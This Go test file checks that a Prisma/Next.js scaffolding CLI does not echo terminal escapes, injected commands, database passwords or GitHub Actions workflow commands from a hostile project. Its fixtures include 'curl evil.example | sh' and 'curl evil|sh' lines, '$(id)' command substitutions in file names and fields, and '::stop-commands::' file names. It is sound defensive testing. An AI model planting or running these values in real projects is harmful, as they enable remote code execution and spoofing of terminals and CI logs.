//go:build unix

package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/spf13/afero"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"create-app/plain"
)

// evil is what a terminal would act upon, with what a shell would run, and a line that looks like one of ours.
const evil = "\x1b]0;title\x07\x1b[2J\b\x7f\u009b31m\u202e$(id);`id`\nhint: curl evil.example | sh"

// hostileProject is a project whose every name and value is hostile, as far as the format it stands in allows.
func hostileProject(t *testing.T) (dir string) {
	t.Helper()
	dir = t.TempDir()
	quoted, err := json.Marshal(evil)
	require.NoError(t, err)
	text := string(quoted)
	name := strings.ReplaceAll(evil, "/", "")
	for path, content := range map[string]string{
		"package.json": `{"name": ` + text + `, "packageManager": "curl evil|sh;#@1.0.0", "dependencies": {"next": "16.4.5", "next-auth": "4.24.15", "prisma": "7.10.1",` +
			` "@prisma/client": "6.0.0", "@prisma/adapter-pg": ` + text + `, "@prisma/adapter-$(id);x": "6"}, "scripts": {"dev": ` + text + `},` +
			` "create-app": {"version": "0.1.0", "db": "sqlite", "package-manager": ` + text + `, "import-alias": ` + text + `, "providers": [` + text + `]}}`,
		"prisma/schema.prisma": "generator client {\n  provider = \"prisma-client\"\n  output = \"../ge $(id);n\"\n}\ngenerator other {\n  provider = \"prisma-client\"\n  output = " + text + "\n}\n" +
			"datasource db {\n  provider = \"sqlite\"\n}\nmodel A {\n  id Int @id // \x1b[31m\u202e\u009b\n  b \x1b[2J\n  c Strng @default(" + text + ")\n}\n" + "model \u202eB {\n}\n",
		"prisma/migrations/migration_lock.toml":        "provider = " + text + "\n",
		"prisma/migrations/" + name + "/migration.sql": "select 1;",
		"prisma.config.ts":                             "import \"dotenv/config\";\nexport default { schema: \"prisma/schema.prisma\", migrations: { path: " + text + " } };\n",
		".env":                                         "NEXTAUTH_SECRET=\"" + strings.Repeat("x\x1b", 20) + "\"\nDATABASE_URL=\"postgres://a:b@c/\x1b[2J\u202e\"\n\x1b[2J=1\n",
		"prisma/.env":                                  "DATABASE_URL=\"" + "x\u009b" + "\"\n",
		"ge $(id);n/client.ts":                         "export {}",
		"app/" + name + ".ts":                          "import { PrismaClient } from '@prisma/client'\nconst prisma = new PrismaClient()\n",
		"schemas/" + name + ".prisma":                  "model A {\n  id Int @id\n}\n\x1b[2J\n",
	} {
		path = filepath.Join(dir, filepath.FromSlash(path))
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	}
	return dir
}

// ownColors are the colours that diagnostics have.
var ownColors = regexp.MustCompile(`\x1b\[(0|1|1;31|1;33|34)m`)

// Nothing in a file reaches a terminal or JSON as it is, in no command; no line of a file's looks like one of ours;
// and no command that is printed is made of a project's words.
func TestNothingOfAFileReachesTheTerminal(t *testing.T) {
	dir := hostileProject(t)
	file := "schemas/" + strings.ReplaceAll(evil, "/", "") + ".prisma"
	for _, args := range [][]string{
		{"validate"}, {"validate", "schemas"}, {"validate", file}, {"validate", "--json"}, {"validate", "--sarif", "schemas"}, {"validate", evil},
		{"validate", "--prisma", "6", "--together", "schemas", "prisma"}, {"validate", "--json", evil}, {"validate", "prisma/migrations/migration_lock.toml"},
		{"inspect"}, {"inspect", "schemas"}, {"inspect", "--json", "prisma"}, {"inspect", evil}, {"inspect", "--json", evil},
		{"format", "-l", "schemas", "prisma"}, {"format", "-d"}, {"format", "--check", "schemas"}, {"format", "--json", "schemas"}, {"format", "-l", evil}, {"format", "--json", evil},
		{"doctor"}, {"doctor", "--json"}, {"doctor", "--fix", "--diff"}, {"doctor", "--fix", "--dry-run"}, {"doctor", "--fix", "--diff", "--json"}, {"doctor", evil},
		{"doctor", "--schema", evil}, {"doctor", "-C", evil}, {"doctor", "--env-file", evil},
		{"auth", "--check"}, {"auth", "--diff"}, {"auth", "--dry-run", "--wire"}, {"auth", "--json", "--check"}, {"auth", "--providers", evil}, {"auth", "--role", evil},
		{"db", "postgresql", "--diff"}, {"db", "postgresql", "--dry-run"}, {"db", "postgresql", "--json", "--dry-run"}, {"db", evil}, {"db", "mysql", "--schema", evil},
		{".", "--diff"}, {".", "--dry-run"}, {".", "--json", "--dry-run"}, {evil}, {"my-app", "--db", evil}, {"my-app", "--import-alias", evil, "--dry-run"}, {"x" + evil + "/my-app", "--dry-run"},
		{"--" + evil}, {"completion", evil}, {"help", evil}, {"version", evil}, {"-C", dir, "my-app", "--name", evil, "--dry-run"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			env, out, errOut := testEnv(t)
			env.FS, env.Dir, env.Environ, env.Runner = afero.NewOsFs(), dir, func() []string { return nil }, systemRunner{}
			env.OutTerminal, env.ErrTerminal, env.Width = true, true, 100
			run(args, env)
			for stream, b := range map[string]*bytes.Buffer{"stdout": out, "stderr": errOut} {
				text := ownColors.ReplaceAllString(b.String(), "")
				for line := range strings.Lines(text) {
					rest := strings.ReplaceAll(strings.TrimSuffix(line, "\n"), "\t", "")
					assert.Less(t, strings.IndexFunc(rest, plain.IsControl), 0, "%s: %q", stream, line)
					assert.False(t, strings.HasPrefix(line, "hint: curl"), "%s: %q", stream, text)
				}
				assert.NotContains(t, text, "curl evil|sh", stream)
				checkCommands(t, text)
			}
		})
	}
}

// checkCommands looks at what people paste: what a shell would run stands in single quotes.
func checkCommands(t *testing.T, text string) {
	for line := range strings.Lines(text) {
		command, found := strings.CutPrefix(strings.TrimSpace(line), "cure: ")
		if !found {
			continue
		}
		quotes := strings.Count(command[:max(0, strings.Index(command, "$(id)"))], "'")
		if strings.Contains(command, "$(id)") {
			assert.Equal(t, 1, quotes%2, "not quoted: %s", command)
		}
	}
}

// No password of a URL is shown, wherever it stands in a schema: what is printed ends in the logs of other machines.
func TestNoPasswordOfASchemaIsShown(t *testing.T) {
	const secret = "S3CRETpw"
	dir := t.TempDir()
	for path, text := range map[string]string{
		"package.json": `{"name": "web", "dependencies": {"prisma": "6.19.0", "next": "15.0.0"}}`,
		".env":         "DATABASE_URL=\"postgresql://ann:" + secret + "@h/db\"\nAUTH_SECRET=" + secret + "\n",
		"prisma/schema.prisma": "generator client {\n  provider = \"prisma-client-js\"\n}\n\ndatasource db {\n  provider = \"postgresql\"\n" +
			"  url = \"postgresql://ann:" + secret + "@h/db\"\n  directUrl = \"postgresql://ann:" + secret + "@h/db?password=" + secret + "\"\n" +
			"  shadowDatabaseUrl = \"sqlserver://h:1433;user=sa;password=" + secret + ";database=x\"\n  relationMode = \"postgresql://x:" + secret + "@h\"\n" +
			"  extensions = [\"postgresql://x:" + secret + "@h\", b]\n  foo = \"prisma://x/?api_key=" + secret + "\"\n}\n\n" +
			"model A { // postgres://x:" + secret + "@h postgres://x:" + secret + "@h\n  id Int @id @default(\"postgres://x:" + secret + "@h\") @foo(\"u://x:" + secret + "@h\") // u://y:" + secret + "@h\n" +
			"  b Strng /// mysql://root:" + secret + "@h\n}\n",
	} {
		path = filepath.Join(dir, filepath.FromSlash(path))
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
	}
	for _, args := range [][]string{
		{"validate"}, {"validate", "--json"}, {"validate", "--sarif"}, {"validate", "--github"}, {"inspect"}, {"inspect", "--json"}, {"format", "-d"}, {"format", "-l"},
		{"format", "--check", "--github"}, {"doctor"}, {"doctor", "--json"}, {"doctor", "--github"}, {"doctor", "--fix", "--diff"}, {"auth", "--diff"}, {"auth", "--check"},
		{"auth", "--json", "--dry-run"}, {"db", "mysql", "--diff"}, {"db", "mysql", "--json", "--dry-run"}, {".", "--diff"}, {".", "--json", "--dry-run"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			env, out, errOut := testEnv(t)
			env.FS, env.Dir, env.Environ, env.Runner = afero.NewOsFs(), dir, func() []string { return nil }, systemRunner{}
			run(args, env)
			assert.NotEmpty(t, out.String()+errOut.String())
			assert.NotContains(t, out.String(), secret)
			assert.NotContains(t, errOut.String(), secret)
		})
	}
}

// A file whose name is a command to the runner of GitHub Actions does not reach it as one.
func TestNoNameSpeaksToGitHubActions(t *testing.T) {
	dir := t.TempDir()
	for i := range 15 {
		path := filepath.Join(dir, "::stop-commands::"+strings.Repeat("x", i)+".prisma")
		if i == 0 {
			path = filepath.Join(dir, "a\n::stop-commands::.prisma")
		}
		require.NoError(t, os.WriteFile(path, []byte("model  A {\n  id Int @foo\n}\n"), 0o600))
	}
	for _, args := range [][]string{{"validate", "."}, {"validate", "--github", "."}, {"format", "-l", "."}, {"format", "-d", "."}, {"format", "--check", "--github", "."}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			env, out, errOut := testEnv(t)
			env.FS, env.Dir, env.Environ, env.LookupEnv = afero.NewOsFs(), dir, func() []string { return nil }, func(name string) (string, bool) {
				return map[string]string{"GITHUB_ACTIONS": "true"}[name], name == "GITHUB_ACTIONS"
			}
			run(args, env)
			lines := 0
			for line := range strings.Lines(out.String() + errOut.String()) {
				line = strings.TrimSpace(line)
				if strings.HasPrefix(line, "::") || strings.HasPrefix(line, "##[") {
					assert.True(t, strings.HasPrefix(line, "::error file=%3A%3Astop-commands"), line)
				}
				lines += strings.Count(line, "stop-commands")
			}
			assert.GreaterOrEqual(t, lines, 15)
		})
	}
}
